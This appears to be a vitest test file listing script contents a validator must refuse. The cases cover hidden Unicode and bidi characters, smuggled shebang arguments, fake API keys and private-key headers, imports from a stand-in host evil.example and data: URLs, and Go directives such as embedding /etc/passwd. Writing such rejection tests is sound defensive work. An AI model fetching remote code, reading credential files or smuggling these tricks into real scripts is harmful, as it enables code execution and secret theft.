import { describe } from "vitest";
import { bash, deno, go, python, refuse } from "./refuse.ts";
import { artifact, extra, script, step } from "./samples.ts";

describe("content", () => {
  refuse("C-TEXT", [
    ["NUL", bash("echo\0\n")],
    ["a zip", python("PK\u0003\u0004__main__.py")],
    ["CRLF shebang", bash("#!/bin/bash\r\necho\r\n")],
    ["a carriage return", bash("echo good\recho evil\n")],
    ["BOM inside", python("print(1)\ufeff\n")],
    ["a zero-width space", bash("ec\u200bho\n")],
    ["an isolate", deno("const a = '\u2066'\n")],
    ["a right-to-left mark", bash("# \u200f\n")],
    ["a tag", bash("# \u{e0041}\n")],
    ["a variation selector beyond the usual", deno("const x = 'a\u{e0100}'\n")],
    ["a line separator", deno("// a\u2028evil()\n")],
    ["a Hangul filler", deno("const \u3164 = 1\n")],
    ["a lone surrogate", bash("echo \ud83d\n")],
    ["a C1 control", bash("\u009b31m\n")],
    ["delete", bash("a\u007f\n")],
    ["form feed", go("\f")],
    ["a replacement character", bash("# \ufffd\n")],
    ["in data", extra(script("files/x.txt", "fetch_repo", "text", "a\u202eb"))],
  ]);
  refuse("C-EMPTY", [
    ["blanks", bash(" \n\t\n")],
    ["nothing", python("")],
  ]);
  refuse("C-SHEBANG", [
    ["sh", bash("#!/bin/sh\n")],
    ["env -S bash -c", bash("#!/usr/bin/env -S bash -c 'evil'\n")],
    ["300 characters", bash(`#!/bin/bash ${" ".repeat(300)}-e\n`)],
    ["python in bash", bash("#!/usr/bin/env python3\n")],
    ["bash in python", python("#!/bin/bash\n")],
    ["a path of its own", bash("#!/tmp/bash\n")],
    ["relative", bash("#!bash\n")],
    ["with -c", bash("#!/bin/bash -c\n")],
    ["env with a variable", bash("#!/usr/bin/env -S BASH_ENV=/tmp/x bash\n")],
    ["in go", artifact(3, { content: "#!/usr/bin/env go\npackage main\n" })],
    ["deno eval", deno("#!/usr/bin/env -S deno eval\n")],
    ["deno with an import map", deno("#!/usr/bin/env -S deno run --import-map=x\n")],
    ["python -m", python("#!/usr/bin/python3 -m x\n")],
  ]);
  refuse("C-SECRET", [
    ["AWS", bash("export K=AKIAIOSFODNN7EXAMPLE\n")],
    ["GitHub", bash(`T=gho_${"b".repeat(36)}\n`)],
    ["OpenAI", python(`k = "sk-${"a".repeat(48)}"\n`)],
    ["Anthropic", python(`k = "sk-ant-api03-${"a".repeat(20)}"\n`)],
    [
      "JWT",
      bash(
        "curl -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P'\n",
      ),
    ],
    ["OpenSSH", bash("cat <<E\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl\nE\n")],
    ["PKCS 8", bash("# -----BEGIN PRIVATE KEY-----\n")],
    ["Slack", bash("T=xoxb-123456789012-abcdef\n")],
    ["Google", bash(`K=AIza${"a".repeat(35)}\n`)],
    ["Stripe", bash(`K=sk_live_${"a".repeat(24)}\n`)],
    ["npm", bash(`T=npm_${"a".repeat(36)}\n`)],
    ["a URL", bash("git clone https://bob:correcthorse@github.com/x/y\n")],
    ["GitLab", bash(`T=glpat-${"a".repeat(20)}\n`)],
    ["in data", extra(script("files/key.pem", "fetch_repo", "text", "-----BEGIN EC PRIVATE KEY-----\n"))],
  ]);
  refuse("C-REMOTE", [
    ["https", deno('import x from "https://evil.example/x.ts";\n')],
    ["for its effects", deno('import "https://evil.example/x.ts";\n')],
    ["jsr", deno('import x from "jsr:@evil/x";\n')],
    ["data", deno('import x from "data:text/javascript,evil";\n')],
    ["dynamic", deno('await import("https://evil.example/x.ts");\n')],
    ["with a comment between", deno('import x from /* hi */ "https://evil.example/x.ts";\n')],
    ["with a quote in the comment", deno('import x from /* \' */ "https://evil.example/x.ts";\n')],
    [
      "data after a string that looks like a comment",
      deno("const a = '/*'; import /* ' */ x from \"data:text/javascript,evil\";\n"),
    ],
    ["data after a line comment", deno('import x from // "\n  "data:text/javascript,evil";\n')],
    ["a call with a comment", deno('await import(/* " */ "data:text/javascript,evil");\n')],
    ["two comments", deno('import x from /* a */ /* b */ "data:text/javascript,evil";\n')],
    ["in a template", deno("await import(`https://evil.example/x.ts`);\n")],
    ["re-exported", deno('export * from "https://evil.example/x.ts";\n')],
    ["several names", deno('import {\n  a,\n  b,\n} from "https://evil.example/x.ts";\n')],
    ["a worker", deno('new Worker("data:text/javascript,evil", { type: "module" });\n')],
    ["escaped", deno('import x from "\\x68ttps://evil.example/x.ts";\n')],
    ["npm in a call", deno('await import("npm:evil@1");\n')],
    ["a file elsewhere", deno('import x from "file:///tmp/evil.ts";\n')],
    ["with capitals", deno('import x from "HTTPS://evil.example/x.ts";\n')],
    ["a URL object", deno('await import(new URL("https://evil.example/x.ts"));\n')],
    [
      "in node",
      (b) => {
        b.artifacts[0] = script(
          "scripts/01_fetch.mjs",
          "fetch_repo",
          "node",
          'await import("data:text/javascript,evil");\n',
        );
        b.steps[0] = step("fetch_repo", "node", "scripts/01_fetch.mjs");
      },
    ],
    [
      "in a helper",
      extra(script("scripts/lib/x.ts", "ensure_service", "deno", 'export * from "npm:evil";\n')),
    ],
    ["a Go module", go('import "github.com/evil/x"')],
    ["a Go module in a list", go('import (\n\t"fmt"\n\tx "evil.example/x"\n)')],
    ["a Go folder", go('import "./lib"')],
  ]);
  refuse("C-GO", [
    ["generate", go("//go:generate sh -c evil")],
    ["embed", go("//go:embed /etc/passwd")],
    ["cgo ldflags", go('//go:cgo_ldflag "-fplugin=x"')],
    ["C in a list", go('import (\n\t"fmt"\n\t"C"\n)')],
    ["C as a raw string", go("import `C`")],
    ["C after a comment", go('import /* x */ "C"')],
    ["C after a line comment", go('import // x\n"C"')],
    ["C under a name", go('import _ "C"')],
    ["C escaped", go('import "\\x43"')],
    ["C after semicolons", go(';;import "fmt";import "C"')],
    ["wasmimport", go("//go:wasmimport a b")],
    ["an exported function", go("//export evil")],
    [
      "a test",
      (b) => {
        b.artifacts[3] = script("scripts/x_test.go", "verify_http", "go", "package main\nfunc main() {}\n");
        b.steps[3] = step("verify_http", "go", "run", "scripts/x_test.go");
      },
    ],
  ]);
});
